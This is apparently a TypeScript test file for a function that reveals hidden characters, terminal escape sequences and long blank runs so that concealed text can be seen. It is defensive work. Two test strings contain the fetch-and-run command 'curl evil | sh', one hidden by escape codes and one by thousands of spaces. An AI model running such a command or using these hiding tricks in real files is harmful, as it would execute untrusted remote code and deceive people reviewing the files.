import fc from 'fast-check';
import { expect, it } from 'vitest';
import { fromVisibleText, toVisibleText } from './visible-text.ts';

it('[T104] makes hidden characters visible: sequences, directions, joiners, selectors, fillers, odd spaces', () => {
  expect(toVisibleText(": '\u001b]'; curl evil | sh; : '\u0007'")).toBe(": '⟨1B⟩]'; curl evil | sh; : '⟨7⟩'");
  for (const hidden of '\u0000\r\u0085\u00a0\u00ad\u034f\u061c\u115f\u1680\u17b4\u180e\u200b\u200d\u2028\u202e\u2066\u2800\u3164\ufe0f\ufeff\uffa0\ufffe\ue000')
    expect(toVisibleText(`a${hidden}b`)).toBe(`a⟨${hidden.charCodeAt(0).toString(16).toUpperCase()}⟩b`);
  expect(toVisibleText('\u{e0061}\u{e0100}\ud800')).toBe('⟨E0061⟩⟨E0100⟩⟨D800⟩');
});

it('[T104] leaves visible text unchanged, in any language', () => {
  for (const text of ['const a = 1;\t// tab', 'Größe, naïve, 你好　世界, العربية, हिन्दी, 👍', '{}[]()<>⟩'])
    expect(toVisibleText(text)).toBe(text);
});

it('[T104] is reversible for every character outside long runs of blanks', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: 'binary' }),
      fc.string({ unit: fc.constantFrom('⟨', '⟩', '1B', ' blanks', '\u001b', '\ud800', '\udc00') }),
      (one, other) => {
        for (const text of [one, other, one + other]) expect(fromVisibleText(toVisibleText(text))).toBe(text);
      },
    ),
  );
});

it('[U500] shows a run of more than 20 blanks of any kind as its length', () => {
  expect(toVisibleText(`echo ok${' '.repeat(4_100)}; curl evil | sh`)).toBe(
    'echo ok⟨4,100 blanks⟩; curl evil | sh',
  );
  for (const blank of '\t \r\v\u0085\u00a0\u1680\u2003\u2028\u2800\u3000\u3164')
    expect(toVisibleText(`a${blank.repeat(21)}b`)).toBe('a⟨21 blanks⟩b');
  expect(toVisibleText(`a${' \t\u00a0'.repeat(400_000)}b`)).toBe('a⟨1,200,000 blanks⟩b');
  expect(toVisibleText(`a${' '.repeat(20)}b`)).toBe(`a${' '.repeat(20)}b`);
  expect(toVisibleText(`a${' \n'.repeat(30)}b`)).toBe(`a${' \n'.repeat(30)}b`);
});

it('[U500] loses nothing: every visible character is there, in order', () => {
  const part = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc
      .tuple(fc.constantFrom(' ', '\t', '\u00a0', '\u2800'), fc.nat(60))
      .map(([blank, count]) => blank.repeat(count)),
  );
  fc.assert(
    fc.property(fc.array(part), (parts) => {
      const text = parts.join('');
      const visible = (shown: string) =>
        shown.replace(/[\p{White_Space}\u115f\u1160\u2800\u3164\uffa0]/gu, '');
      expect(visible(fromVisibleText(toVisibleText(text)))).toBe(visible(text));
      expect(toVisibleText(text)).not.toMatch(/[^\P{C}\t\n]/u);
    }),
    { numRuns: 500 },
  );
});
